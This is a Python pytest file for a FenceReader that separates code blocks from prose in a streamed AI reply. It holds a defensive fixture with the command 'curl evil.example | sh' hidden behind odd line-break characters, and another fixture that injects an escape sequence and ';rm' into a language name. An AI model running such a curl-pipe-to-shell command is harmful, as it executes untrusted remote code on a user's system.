"""FenceReader: a streamed reply's code blocks told apart from its prose, however it is cut."""

from __future__ import annotations

import pytest

from ipyagent.frontends.fences import FenceReader, Piece


def read(*chunks: str) -> list[Piece]:
    reader = FenceReader()
    pieces = [p for chunk in chunks for p in reader.feed(chunk)]
    return pieces + reader.flush()


def merged(pieces: list[Piece]) -> list[tuple[str, str]]:
    """Prose pieces joined (they may come in parts); the rest as they are."""
    out: list[tuple[str, str]] = []
    for p in pieces:
        if p.kind == "prose" and out and out[-1][0] == "prose" and not out[-1][1].endswith("\n"):
            out[-1] = ("prose", out[-1][1] + p.text)
        else:
            out.append((p.kind, p.text))
    return out


REPLY = "Run this:\n```python\nx = 1\nprint(x)\n```\nIt prints `1`.\n~~~\nraw ~~\n~~~~\nend"
WANTED = [("prose", "Run this:\n"), ("open", "python"), ("code", "x = 1"), ("code", "print(x)"),
          ("close", ""), ("prose", "It prints `1`.\n"), ("open", ""), ("code", "raw ~~"),
          ("close", ""), ("prose", "end")]


def test_a_reply_read_whole() -> None:
    assert merged(read(REPLY)) == WANTED


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7])
def test_a_reply_read_in_any_chunks_reads_the_same(size: int) -> None:
    chunks = [REPLY[i:i + size] for i in range(0, len(REPLY), size)]
    assert merged(read(*chunks)) == WANTED


def test_prose_streams_before_its_line_ends_and_code_waits_for_its_line() -> None:
    reader = FenceReader()
    assert reader.feed("The ans") == [Piece("prose", "The ans")]
    assert reader.feed("wer\n```py\nx = ") == [Piece("prose", "wer\n"), Piece("open", "py")]
    assert reader.feed("1\n") == [Piece("code", "x = 1")]
    assert reader.in_code and reader.flush() == [Piece("close")]  # an unclosed block ends
    assert not reader.in_code


@pytest.mark.parametrize("text, kinds", [
    ("a ``` b\n", ["prose"]),                      # not at the line's start
    ("    ```\n", ["prose"]),                      # four spaces: indented code, not a fence
    ("``` a`b\n", ["prose"]),                      # a backtick fence's info has no backtick
    ("``\n", ["prose"]),
    ("```\ncode\n``\n", ["open", "code", "code", "close"]),  # too short to close it
    ("````\n```\n````\n", ["open", "code", "close"]),         # a longer fence holds a shorter
    ("```\na\n~~~\n", ["open", "code", "code", "close"]),     # the other character
    ("text then ```python\n", ["prose"]),
])
def test_what_is_and_is_not_a_fence(text: str, kinds: list[str]) -> None:
    assert [p.kind for p in read(text)] == kinds


def test_a_language_that_is_no_name_is_dropped() -> None:
    assert read("```py\x1b[31m;rm\n")[0] == Piece("open", "")
    assert read("```c++ {.numberLines}\n")[0] == Piece("open", "c++")


@pytest.mark.parametrize("sep", ["\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"])
@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 1000])
def test_no_text_is_lost_at_a_character_python_takes_for_a_line_break(sep: str, size: int) -> None:
    """Found by a review: str.splitlines breaks at these too, and what followed was dropped
    (``ls\\x0b; curl evil | sh`` showed as ``ls``, and the rest of the reply vanished)."""
    reply = f"Run this:\n```bash\nls{sep}; curl evil.example | sh\n```\nThe answer{sep} is 42.\n"
    chunks = [reply[i:i + size] for i in range(0, len(reply), size)]
    assert merged(read(*chunks)) == [
        ("prose", "Run this:\n"), ("open", "bash"), ("code", f"ls{sep}; curl evil.example | sh"),
        ("close", ""), ("prose", f"The answer{sep} is 42.\n")]


def test_a_reply_that_ends_on_its_closing_fence_shows_no_fence() -> None:
    assert merged(read("Here:\n```python\nx = 1\n```")) == [
        ("prose", "Here:\n"), ("open", "python"), ("code", "x = 1"), ("close", "")]
    assert merged(read("```\nx\n``")) == [("open", ""), ("code", "x"), ("code", "``"), ("close", "")]
